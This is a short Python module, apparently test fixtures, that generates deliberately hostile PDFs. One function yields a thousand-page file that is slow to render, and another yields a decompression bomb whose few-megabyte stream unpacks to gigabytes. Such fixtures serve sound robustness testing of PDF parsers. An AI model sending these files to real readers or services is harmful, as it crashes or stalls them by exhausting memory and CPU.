"""PDF files made to hurt whoever reads them. Each is small and honest about its structure."""

import zlib


def assembled(objects, root=1):
    """A PDF from ``{number: body}``, with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number]
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, start)
    return bytes(out)


def stream(data, extra=b""):
    packed = zlib.compress(data, 9)
    return (
        b"<< /Length %d /Filter /FlateDecode %s>>\nstream\n" % (len(packed), extra) + packed + b"\nendstream"
    )


def with_pages(contents, pages):
    """``pages`` pages that all show the same content stream."""
    kids = b" ".join(b"%d 0 R" % (10 + number) for number in range(pages))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Count %d /Kids [%s] >>" % (pages, kids),
        3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        4: contents,
    }
    objects |= dict.fromkeys(range(5, 10), b"null")
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 3 0 R >> >> >>"
    )
    return assembled(objects | {10 + number: page for number in range(pages)})


def slow(megabytes=4, pages=1000):
    """Text enough for minutes: every page shows the same millions of letters."""
    line = b"BT /F1 1 Tf 1 0 0 1 10 800 Tm (abcdefghijklmnopqrstuvwxyz) Tj ET\n"
    return with_pages(stream(line * (megabytes * 2**20 // len(line))), pages)


def bomb(gigabytes=2):
    """A content stream of a few megabytes that unpacks to gigabytes: one packed chunk, again and again."""
    packer = zlib.compressobj(9, wbits=-15)
    chunk = packer.compress(b" " * 2**24) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = b"\x78\xda" + chunk * (gigabytes * 64) + b"\x03\x00" + bytes(4)
    body = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed + b"\nendstream"
    return with_pages(body, 1)
